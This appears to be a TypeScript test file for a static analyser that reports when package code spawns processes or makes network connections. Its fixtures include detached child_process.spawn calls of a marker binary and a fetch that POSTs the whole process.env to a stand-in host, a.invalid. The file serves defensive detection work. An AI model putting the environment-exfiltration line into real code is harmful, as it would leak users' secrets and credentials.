import assert from 'node:assert/strict';
import { describe, it } from 'node:test';

import { behaviourOf, lineOf } from '../../test/behave.ts';

const RUNS = `require('child_process').spawn('unmask-marker', { detached: true })`;
const OTHER = `require('child_process').spawn('unmask-marker-2')`;

function linesOf(files: Readonly<Record<string, string>>): string[] {
  return behaviourOf({ 'package.json': '{ "name": "x", "version": "1.0.0", "main": "lib/client.js" }', ...files })
    .effects.filter(({ kind }) => kind === 'spawns')
    .map(lineOf);
}

describe('a file that nothing reaches', () => {
  it('does what a file of its name does when that does it', () => {
    const lines = linesOf({ 'lib/client.js': `exports.go = () => ${RUNS}`, 'src/client.ts': `export const go = () => ${RUNS};` });
    assert.deepEqual(lines, ['call spawns child_process.spawn(unmask-marker)', 'call spawns child_process.spawn(unmask-marker)']);
  });

  it('does at no known time what no other file does', () => {
    const lines = linesOf({ 'lib/client.js': `exports.go = () => ${RUNS}`, 'src/client.ts': `export const go = () => ${OTHER};` });
    assert.deepEqual(lines, ['call spawns child_process.spawn(unmask-marker)', 'never spawns child_process.spawn(unmask-marker-2)']);
  });

  it('does at no known time what a file of another name does', () => {
    const lines = linesOf({ 'lib/client.js': `exports.go = () => ${RUNS}`, 'src/other.ts': `export const go = () => ${RUNS};` });
    assert.deepEqual(lines, ['call spawns child_process.spawn(unmask-marker)', 'never spawns child_process.spawn(unmask-marker)']);
  });

  it('does at no known time what another sends there, and what is no source of anything', () => {
    const files = {
      'lib/client.js': `fetch('https://a.invalid/report')`,
      'src/client.ts': `fetch('https://a.invalid/report', { method: 'POST', body: JSON.stringify(process.env) });`,
      'test/client.js': `fetch('https://a.invalid/report');`,
    };
    const { effects } = behaviourOf({ 'package.json': '{ "name": "x", "version": "1.0.0", "main": "lib/client.js" }', ...files });
    assert.deepEqual(
      effects.filter(({ kind }) => kind === 'connects').map(({ triggers }) => triggers.join('/')),
      ['import', '', ''],
    );
  });
});
